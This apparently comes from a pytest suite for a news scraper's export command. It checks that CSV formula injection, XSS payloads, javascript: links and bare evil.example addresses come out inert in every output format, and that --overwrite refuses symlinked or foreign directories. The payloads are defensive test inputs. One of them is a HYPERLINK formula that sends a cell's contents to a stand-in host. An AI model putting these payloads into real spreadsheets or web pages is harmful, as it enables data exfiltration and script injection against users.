"""``scrapy export`` of a store whose every text from the site is hostile: formulas for spreadsheets,
maths for matplotlib, Markdown and HTML for renderers. The export must finish, every file must parse,
and each output must show the text as text: no CSV cell a spreadsheet would run, no tag from the site
in the card as a renderer makes it, every chart drawn. Then ``--overwrite``: only over an earlier
export, only its files, never through a symbolic link.

Stores are filled through the store interface with records from ``fixtures/expected`` whose text
fields (found from the JSON Schema, so a new text field is covered too) carry the payloads.
"""

from __future__ import annotations

import csv
import itertools
import json
import logging
import re
import shutil
import sqlite3
import tempfile
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path

import cmarkgfm
import cmarkgfm.cmark
import pyarrow.dataset as ds
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from mayadeen.export.escape import FORMULA_STARTS, one_line
from mayadeen.export.overwrite import RefusedDirectory
from mayadeen.export.run import ExportRequest, export
from mayadeen.export.writers import JsonLinesWriter, json_lines
from mayadeen.record import content_hash, flash_schema, resolve, schema, validation_errors
from mayadeen.store.engines import StoreTarget, connect
from tests.conftest import examples
from tests.test_export import _files, export_in_process

EXPECTED = Path(__file__).resolve().parent.parent / "fixtures" / "expected"
RECORDS = (
    "article-iraqs-pmf-law-seen-as-test-of-sovereignty-amid-us-objections",
    "article-opec-agrees-to-another-large-oil-output-hike-for-september",
    "gallery-in-pictures-europe-swelters-as-heatwave-grips-the-continent",
    "video-firefighters-battle-wildfires-in-syrias-latakia-countryside",
)
PAYLOADS = (
    '=HYPERLINK("http://x","Click")',
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "'=1",
    r"$\foo$",
    "a $5 and $6 b",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "| col |",
    "[x](javascript:alert(1))",
    "**b**",
    "_i_ `c` ~~s~~ \\",
    "&amp; &lt;b&gt;",
    "<!-- x -->",
    "}{#!",
    "one\u2028line\x85only",
    "nul\x00byte",
)
#: Sections as the card shows them: HTML, a script, a link, Markdown and maths.
SECTIONS = (
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "[x](javascript:alert(1))",
    r"**b** | col | $\foo$ & _i_ `c`",
    # bare addresses, which GitHub-flavoured renderers (GitHub, Hugging Face) link without any markup
    "+Politics https://evil.example/s and www.evil.example, tag_www.evil.example",
)
T0, T1, T2 = "2025-08-04T12:00:00Z", "2025-08-04T12:30:00Z", "2025-08-05T06:00:00Z"
#: What a CommonMark renderer may make of the card: its own structure, nothing from the site.
#: The first characters of a cell that a spreadsheet runs as a formula (OWASP).
ACTIVE = ("=", "+", "-", "@", "\t", "\r")
CARD_TAGS = {
    "h1",
    "h2",
    "p",
    "ul",
    "li",
    "strong",
    "em",
    "code",
    "pre",
    "a",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
}


# --- hostile records ----------------------------------------------------------------------------


def _is_text(node: dict, root: dict) -> bool:
    """A node of free text from the site: a string with no enum, format or pattern beyond "not blank"."""
    node = resolve(node, root)
    return node.get("type") == "string" and not {"enum", "format"} & node.keys() and node.get("pattern", r"\S") == r"\S"


def _hostile(value, node: dict, root: dict, texts):
    """``value`` with every text leaf (nullable ones too, empty text lists get one) taken from ``texts``."""
    if _is_text(node, root):
        return next(texts)
    node = resolve(node, root)
    if node.get("type") == "array" and isinstance(value, list):
        if not value and _is_text(node["items"], root):
            return [next(texts)]
        return [_hostile(v, node["items"], root, texts) for v in value]
    if "properties" in node and isinstance(value, dict):
        return {k: _hostile(v, node["properties"][k], root, texts) for k, v in value.items()}
    return value


def hostile_records(texts: list[str], sections: tuple[str, ...] = ()) -> list[dict]:
    """The RECORDS with ``texts`` in turn in every text field; ``sections``, when given, as their
    sections (the card shows those)."""
    cycle = itertools.cycle(texts)
    root, out = schema(), []
    for n, name in enumerate(RECORDS):
        record = json.loads((EXPECTED / f"{name}.json").read_text("utf-8"))
        record = {k: _hostile(v, root["properties"][k], root, cycle) for k, v in record.items()}
        if sections:
            record["section"] = sections[n % len(sections)]
        if record["image"] is not None:
            record["image"] = record["images"][0]
        record.update(word_count=len(record["body"].split()), scraped_at=T1)
        record["content_hash"] = content_hash(record)
        assert validation_errors(record) == [], validation_errors(record)
        out.append(record)
    return out


def _holds_text(node: dict, root: dict) -> bool:
    node = resolve(node, root)
    return (
        _is_text(node, root)
        or (node.get("type") == "array" and _holds_text(node["items"], root))
        or any(_holds_text(child, root) for child in node.get("properties", {}).values())
    )


def text_keys() -> list[str]:
    """The record's keys that hold text from the site, at any depth (the payloads reach each)."""
    root = schema()
    return [key for key, node in root["properties"].items() if _holds_text(node, root)]


def fill(target: StoreTarget, texts: list[str], sections: tuple[str, ...] = ()) -> list[dict]:
    """Hostile items (one of them revised), two runs (one that stored nothing) and hostile flashes."""
    records = hostile_records(texts, sections)
    cycle = itertools.cycle(texts)
    with connect(target) as store:
        run = store.start_run("sitemap", {}, started_at=T0)
        for record in records:
            store.upsert(record, seen_at=T1, run_id=run)
        revised = {**records[0], "headline": f"{records[0]['headline']} {next(cycle)}", "scraped_at": T2}
        revised["content_hash"] = content_hash(revised)
        store.upsert(revised, seen_at=T2, run_id=run)
        store.finish_run(
            run,
            finished_at=T2,
            items_new=len(records),
            items_updated=1,
            errors=0,
            finish_reason="finished",
            coverage={"fields": {"headline": 1.0, "summary": 0.75}},
        )
        idle = store.start_run("feed", {}, started_at=T2)
        store.finish_run(
            idle,
            finished_at=T2,
            items_new=0,
            items_updated=0,
            errors=0,
            finish_reason="finished",
            coverage={"fields": {"headline": 0.0, "summary": 0.0}},
        )
        for n in range(3):
            text = next(cycle)
            store.write(
                lambda text=text, n=n: store.run(
                    "INSERT INTO breaking_news (text, time, time_estimated, url, first_seen, last_seen, article_url,"
                    " language, text_key, edits) VALUES ($1, $2, $3, NULL, $4, $5, NULL, 'en', $6, $7)",
                    (text, f"2025-08-04T1{n}:00:00Z", False, T1, T2, f"{n}:{text.lower()}", store.json([next(cycle)])),
                )
            )
    return [revised, *records[1:]]


# --- reading the outputs ------------------------------------------------------------------------


class Tags(HTMLParser):
    """Every tag and attribute of an HTML text, and its text content."""

    def __init__(self, text: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def assert_card_is_inert(card: str, texts: list[str]) -> None:
    for renderer in (
        lambda text: MarkdownIt("commonmark", {"html": True}).enable("table").render(text),
        # GitHub's own renderer, with its autolinks (and HTML left on, as a careless host might)
        lambda text: cmarkgfm.github_flavored_markdown_to_html(text, options=cmarkgfm.cmark.Options.CMARK_OPT_UNSAFE),
    ):
        _assert_rendered_inert(renderer(card), texts)


def _assert_rendered_inert(html: str, texts: list[str]) -> None:
    rendered = Tags(html)
    for tag, attrs in rendered.tags:
        assert tag in CARD_TAGS, (tag, attrs)
        assert tag != "a" or attrs["href"] == "https://english.almayadeen.net", attrs
        assert not [a for a in attrs if a.startswith("on")], (tag, attrs)
    shown = " ".join("".join(rendered.text).split())
    for text in map(one_line, texts):  # as written: the escapes undone by the renderer, nothing eaten
        assert text in shown, text


def assert_report_is_inert(page: str) -> None:
    parsed = Tags(page)
    names = {tag for tag, _ in parsed.tags}
    assert not names & {"script", "iframe", "img", "foreignobject", "a", "object", "embed"}, names
    assert not [a for _, attrs in parsed.tags for a in attrs if a.startswith("on")]
    assert page.count('<figure class="chart"') == 6 and page.count("<svg") == 6
    assert "could not be drawn" not in page


def read_csv_cells(path: Path) -> list[list[str]]:
    assert path.read_bytes()[:3] == b"\xef\xbb\xbf"
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def assert_export_is_sound(out: Path, records: list[dict], texts: list[str]) -> None:
    for name in ("articles", "revisions", "breaking"):
        lines = [json.loads(line) for line in (out / f"{name}.jsonl").read_text("utf-8").splitlines()]
        rows = read_csv_cells(out / f"{name}.csv")
        header, cells = rows[0], rows[1:]
        assert len(cells) == len(lines) > 0
        for cell in itertools.chain.from_iterable(cells):
            assert not cell.startswith(ACTIVE), cell
        for line, row in zip(lines, cells, strict=True):  # text cells read back to the JSON Lines values
            for key, cell in zip(header, row, strict=True):
                if isinstance(line[key], str):
                    assert cell.removeprefix("'") == line[key] and (cell != line[key]) == line[key].startswith(
                        FORMULA_STARTS
                    ), (key, cell)
        parquet = {"articles": "parquet", "revisions": "parquet_revisions", "breaking": "parquet_breaking"}[name]
        assert ds.dataset(out / parquet, format="parquet", partitioning="hive").count_rows() == len(lines)
    by_url = {r["url"]: r for r in records}
    for line in (out / "articles.jsonl").read_text("utf-8").splitlines():
        record = json.loads(line)
        assert record == by_url[record["url"]]
    assert_card_is_inert((out / "README.md").read_text("utf-8"), [r["section"] for r in records])
    assert_report_is_inert((out / "report.html").read_text("utf-8"))


# --- the export of hostile text -----------------------------------------------------------------


@dataclass
class Hostile:
    store: Path  # every payload in every text field, SECTIONS as sections
    records: list[dict]  # the current version of each item
    export: Path  # the store exported whole, with revisions (tests that write over it copy it)
    warnings: list[str]  # what that export logged at WARNING and above


class _Kept(logging.Handler):
    def __init__(self):
        super().__init__(logging.WARNING)
        self.messages: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.messages.append(record.getMessage())


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Hostile:
    work = tmp_path_factory.mktemp("hostile")
    target = StoreTarget("sqlite", str(work / "mayadeen.sqlite"))
    records = fill(target, list(PAYLOADS), SECTIONS)
    kept, root = _Kept(), logging.getLogger()
    level = root.level
    root.addHandler(kept)
    root.setLevel(min(level or logging.WARNING, logging.WARNING))
    try:
        export(ExportRequest(store=target, out=work / "export", with_revisions=True))
    finally:
        root.removeHandler(kept)
        root.setLevel(level)
    return Hostile(work / "mayadeen.sqlite", records, work / "export", kept.messages)


def test_the_payloads_reach_every_text_field():
    keys = text_keys()
    assert {"section", "headline", "summary", "body", "authors", "source", "tags", "image", "images", "related"} <= set(
        keys
    )
    records = hostile_records(list(PAYLOADS))
    for key in keys:
        assert all(
            json.dumps(r[key]) != json.dumps(json.loads((EXPECTED / f"{n}.json").read_text("utf-8"))[key])
            for r, n in zip(records, RECORDS, strict=True)
        ), key
    assert _is_text(flash_schema()["properties"]["text"], flash_schema())


def test_every_payload_exported_inert(hostile):
    assert hostile.warnings == []
    assert_export_is_sound(hostile.export, hostile.records, list(PAYLOADS))
    card = (hostile.export / "README.md").read_text("utf-8")
    assert "has a `'` put in front" in card and "byte-order mark" in card
    assert "<iframe" not in card.replace("`<iframe src>`", "")  # the schema's own words in code spans
    cells, values = _cells_and_values(hostile.export)
    active = [p for p in PAYLOADS if p.startswith(FORMULA_STARTS) and p in values]
    assert len(active) >= 5 and {"'" + p for p in active} <= cells and not set(active) & cells
    inert = [p for p in PAYLOADS if not p.startswith(FORMULA_STARTS) and p in values]
    assert len(inert) >= 5 and set(inert) <= cells  # maths, Markdown, HTML: as they are


def _cells_and_values(out: Path) -> tuple[set[str], set[str]]:
    """Every CSV cell, and every text value of the JSON Lines, of an export."""
    names = [p.stem for p in out.glob("*.csv")]
    cells = {c for name in names for c in itertools.chain.from_iterable(read_csv_cells(out / f"{name}.csv"))}
    values = {
        v
        for name in names
        for line in (out / f"{name}.jsonl").read_text("utf-8").splitlines()
        for v in json.loads(line).values()
        if isinstance(v, str)
    }
    return cells, values


def test_escaping_off_writes_cells_as_they_are(tmp_path):
    target = StoreTarget("sqlite", str(tmp_path / "mayadeen.sqlite"))
    fill(target, list(PAYLOADS))
    export(ExportRequest(store=target, out=tmp_path / "out", formats=("csv", "jsonl"), escape_csv_formulas=False))
    cells, values = _cells_and_values(tmp_path / "out")
    active = {p for p in PAYLOADS if p.startswith(FORMULA_STARTS) and p in values}
    assert len(active) >= 5 and active <= cells
    assert "Cells are written as they are" in (tmp_path / "out" / "README.md").read_text("utf-8")


_TEXT = st.one_of(
    st.sampled_from(PAYLOADS),
    st.builds(lambda a, b: a + b, st.sampled_from(PAYLOADS), st.text(max_size=12)),
    st.builds(lambda a, b: a + b, st.text(max_size=12), st.sampled_from(PAYLOADS)),
    st.text(min_size=1, max_size=24),
).filter(lambda s: re.search(r"\S", s))


# Each example is a whole export (every format, the report); every payload is exported whole by the
# tests above, so a few random mixes suffice here (one in the quick set).
@settings(max_examples=examples(4), deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(texts=st.lists(_TEXT, min_size=1, max_size=12))
def test_any_text_in_any_field_exports_inert(texts):
    with tempfile.TemporaryDirectory() as work:
        target = StoreTarget("sqlite", str(Path(work) / "mayadeen.sqlite"))
        records = fill(target, texts)
        export(ExportRequest(store=target, out=Path(work) / "out", with_revisions=True))
        assert_export_is_sound(Path(work) / "out", records, texts)


def test_a_maths_tag_does_not_fail_the_command(hostile, tmp_path):
    proc = export_in_process(tmp_path / "out", "--store", hostile.store, "--format", "jsonl", check=False)
    assert proc.returncode == 0, proc.log
    assert proc.log == "" and "4 items published" in proc.stdout
    assert "could not be drawn" not in (tmp_path / "out" / "report.html").read_text("utf-8")


def test_a_bad_escape_setting_is_one_line_exit_2(hostile, tmp_path):
    proc = export_in_process(
        tmp_path / "out", "--store", hostile.store, "-s", "MAYADEEN_EXPORT_CSV_ESCAPE_FORMULAS=maybe", check=False
    )
    assert proc.returncode == 2 and len(proc.log.strip().splitlines()) == 1, proc.log
    assert "MAYADEEN_EXPORT_CSV_ESCAPE_FORMULAS" in proc.log and not (tmp_path / "out").exists()


# --- --overwrite --------------------------------------------------------------------------------


def _tree(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() if p.is_file() else b"<dir>" for p in sorted(root.rglob("*"))}


def test_overwrite_refuses_a_directory_that_holds_no_export(hostile, tmp_path):
    out = tmp_path / "mine"
    (out / "parquet").mkdir(parents=True)
    (out / "README.md").write_text("my project")
    (out / "parquet" / "keep.txt").write_text("mine")
    (out / "articles.jsonl").write_text("{}\n")
    before = _tree(out)
    proc = export_in_process(out, "--store", hostile.store, "--overwrite", check=False)
    assert proc.returncode == 2 and len(proc.log.strip().splitlines()) == 1, proc.log
    assert "holds no manifest.json of an earlier export" in proc.log
    assert _tree(out) == before
    (out / "manifest.json").write_text('{"files": [{"path": "README.md"}]}')  # not this tool's
    with pytest.raises(RefusedDirectory, match="not the manifest of an export of this tool"):
        export(ExportRequest(store=StoreTarget("sqlite", str(hostile.store)), out=out, overwrite=True))
    assert _tree(out) == {**before, "manifest.json": b'{"files": [{"path": "README.md"}]}'}


def test_overwrite_refuses_a_symlinked_directory(hostile, tmp_path):
    real = tmp_path / "real"
    shutil.copytree(hostile.export, real)
    before = _tree(real)
    (tmp_path / "link").symlink_to(real, target_is_directory=True)
    proc = export_in_process(tmp_path / "link", "--store", hostile.store, "--overwrite", check=False)
    assert proc.returncode == 2 and len(proc.log.strip().splitlines()) == 1, proc.log
    assert "is a symbolic link" in proc.log
    assert _tree(real) == before
    # a directory of the export that links elsewhere: neither written through nor emptied
    elsewhere = tmp_path / "elsewhere"
    shutil.move(real / "parquet", elsewhere)
    (real / "parquet").symlink_to(elsewhere, target_is_directory=True)
    linked = _tree(elsewhere)
    with pytest.raises(RefusedDirectory, match="parquet is a symbolic link"):
        export(ExportRequest(store=StoreTarget("sqlite", str(hostile.store)), out=real, overwrite=True))
    assert _tree(elsewhere) == linked and (real / "parquet").is_symlink()


def test_overwrite_replaces_only_the_earlier_export(hostile, tmp_path):
    target = StoreTarget("sqlite", str(hostile.store))
    out = tmp_path / "out"
    shutil.copytree(hostile.export, out)
    earlier = set(_tree(out))
    (out / "notes").mkdir()
    (out / "notes" / "README.md").write_text("my notes")
    (out / "parquet" / "NOTES.md").write_text("about the parquet files")
    (out / "notes.txt").write_text("mine")
    export(ExportRequest(store=target, out=out, formats=("jsonl",), overwrite=True))
    after = _tree(out)
    assert after["notes/README.md"] == b"my notes" and after["notes.txt"] == b"mine"
    assert after["parquet/NOTES.md"] == b"about the parquet files"
    assert sorted(p for p in after if p.startswith("parquet")) == ["parquet", "parquet/NOTES.md"]  # emptied, kept
    assert not [p for p in after if p.startswith(("parquet_", "revisions", "articles.csv"))]
    assert (
        {"README.md", "report.html", "manifest.json", "articles.jsonl", "breaking.jsonl"}
        <= set(after)
        < (earlier | {"notes", "notes/README.md", "notes.txt", "parquet/NOTES.md"})
    )
    manifest = json.loads(after["manifest.json"])
    assert sorted(f["path"] for f in manifest["files"]) == [
        "README.md",
        "articles.jsonl",
        "breaking.jsonl",
        "croissant.json",
        "report.html",
    ]
    # an export file changed since (an edited card): the whole overwrite is refused, nothing removed
    (out / "README.md").write_text("my own card")
    before = _tree(out)
    with pytest.raises(RefusedDirectory, match="README.md is not the file the earlier export wrote"):
        export(ExportRequest(store=target, out=out, overwrite=True))
    assert _tree(out) == before
    assert _files(out)["notes.txt"] == b"mine"


def test_overwrite_refuses_a_file_the_earlier_export_did_not_write(hostile, tmp_path):
    target = StoreTarget("sqlite", str(hostile.store))
    out = tmp_path / "out"
    export(ExportRequest(store=target, out=out, formats=("jsonl",)))
    (out / "articles.csv").write_text("MY OWN SPREADSHEET")
    before = _tree(out)
    with pytest.raises(RefusedDirectory, match="articles.csv was not written by the earlier export"):
        export(ExportRequest(store=target, out=out, overwrite=True))
    assert _tree(out) == before


@pytest.mark.parametrize("cell", ["＝HYPERLINK(1)", "＋1", "－1", "＠SUM(1)", "\u200b=1", "\ufeff+1", "\u202e@x"])
def test_a_formula_behind_a_full_width_sign_or_an_invisible_character_is_escaped(cell):
    from mayadeen.export.escape import csv_cell

    assert csv_cell(cell) == "'" + cell
    assert csv_cell("plain =1") == "plain =1"


@pytest.mark.parametrize(
    "text",
    [
        "one\u2028line",
        "one\u2029line",
        "one\x85line",
        "café © Zoë\u2029line",  # bytes A9 and 85 elsewhere in the batch, then the sequence
        "é\u2028",
    ],
)
def test_a_line_break_character_stays_inside_its_json_line(tmp_path, text):
    """A batch holding the last byte of a line-break character's UTF-8 elsewhere (é is C3 A9, © C2 A9)
    still gets the character itself escaped: one record, one line, the text back as it was."""
    records = [{"a": "café ©"}, {"a": text}, {"a": "Zoë"}]
    writer = JsonLinesWriter(tmp_path, "x.jsonl")
    writer.write(records, json_lines(records, ("a",)))
    writer.close()
    lines = (tmp_path / "x.jsonl").read_text("utf-8").splitlines()
    assert [json.loads(line) for line in lines] == records


# --- a store edited by hand: JSON column text the store did not write ------------------------------------


def _edited_store(tmp_path: Path, column: str, text: str) -> tuple[Path, str]:
    """A store of the hostile records whose first item's ``column`` holds ``text`` (written by hand, as
    the store never writes it); the store and that item's url."""
    path = tmp_path / "mayadeen.sqlite"
    records = fill(StoreTarget("sqlite", str(path)), ["plain text"])
    con = sqlite3.connect(path)
    with con:
        con.execute(f"UPDATE articles SET {column} = ? WHERE url = ?", (text, records[0]["url"]))
    con.close()
    return path, records[0]["url"]


def test_json_text_with_a_line_break_stays_one_record_on_one_line(tmp_path):
    """The export takes the store's JSON text as it is; text with a line break (JSON whitespace, not
    the store's compact text) is decoded instead, so the record is still one line."""
    store, url = _edited_store(tmp_path, "images", "[\n]")
    export_in_process(tmp_path / "out", "--store", store)
    lines = (tmp_path / "out" / "articles.jsonl").read_bytes().split(b"\n")[:-1]
    records = {r["url"]: r for r in map(json.loads, lines)}
    assert len(lines) == len(records) == len(RECORDS) and records[url]["images"] == []


@pytest.mark.parametrize(
    ("column", "text", "formats"),
    [
        ("images", '[{"url":"x"', ()),  # Parquet's reader finds it
        ("related", '[{"url":"x"', ("--format", "jsonl,csv")),  # the check without Parquet finds it
        ("related", '=HYPERLINK("http://evil.example/?"&A1,"click")', ("--format", "csv")),
        ("video", "", ("--format", "jsonl")),
    ],
)
def test_json_text_that_is_no_json_fails_the_export_in_one_line(tmp_path, column, text, formats):
    store, _url = _edited_store(tmp_path, column, text)
    proc = export_in_process(tmp_path / "out", "--store", store, *formats, check=False)
    assert proc.returncode == 1
    (line,) = proc.log.strip().splitlines()
    assert "failed: the store holds a record that is not one of this schema (edited by hand?)" in line, line
    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").iterdir())
